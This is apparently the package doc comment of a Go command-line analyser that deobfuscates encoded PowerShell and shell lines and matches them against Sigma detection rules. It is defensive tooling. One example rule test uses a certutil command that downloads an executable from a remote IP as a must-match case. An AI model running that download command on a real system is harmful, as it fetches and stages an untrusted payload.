// Package cmdline is Spotter's local, offline and explainable command-line
// analyser.
//
// A command line goes through four steps:
//
//  1. The standard-execution filter (incident.StandardCommands plus a
//     configurable list) skips plain operating-system executions such as
//     `svchost.exe -k netsvcs`; a binary with arguments not on the list is
//     analysed.
//  2. Deobfuscate peels encodings and obfuscation off the line and keeps every
//     intermediate form as a Layer: PowerShell -EncodedCommand (every accepted
//     spelling), FromBase64String literals (also gzip or deflate compressed),
//     base64 pipelines in shells, URL and \x escapes, and the textual tricks of
//     cmd and PowerShell (carets, backticks, quote splitting, string
//     concatenation, [char] codes, the -f format operator).
//  3. Sigma process_creation rules, from the built-in pack in rules/ and from
//     user directories, are compiled once into matchers (see RuleSet) and
//     evaluated against an Event built from the line and what is known about
//     its process: Image, CommandLine, ParentImage, ParentCommandLine, User,
//     CurrentDirectory. The original line and every decoded layer are tested.
//  4. The matched rules' levels give the verdict and score (see Score), and
//     ioc.Extract finds the indicators in the original and decoded text.
//
// Rule files are ordinary Sigma rules with two optional conventions: the tag
// spotter.allow marks a benign-allow rule (see Score), and a custom `tests`
// field holds examples the rule must and must not match, each a command line
// or a map with cmdline, os, image, parent, parent_image, parent_cmdline and
// user:
//
//	tests:
//	    match:
//	        - 'certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe'
//	    nomatch:
//	        - 'certutil -hashfile C:\Temp\setup.exe SHA256'
//
// Every rule of the built-in pack carries both kinds of example and the
// package tests run them through the whole analyser.
//
// Value semantics follow the Sigma specification: comparisons ignore case
// unless the cased modifier is given (re is case-sensitive unless re|i),
// "*" and "?" are wildcards, a backslash escapes "*", "?" and itself,
// `Field: null` matches an absent or empty field, keyword lists are searched
// for in CommandLine, and %placeholders% are literal text unless the expand
// modifier is used (then they match any run). Aggregations (`| count()`)
// are not evaluated: a rule using one is kept with a problem recorded.
//
// Rules are parsed with github.com/bradleyjkemp/sigma-go; what that library
// rejects or does not evaluate (condition identifiers with digits before a
// wildcard, windash, base64offset, utf16 encodings, cidr, fieldref, regular
// expression flags, wildcards and escapes inside values, `Field: null`) is
// handled here.
package cmdline
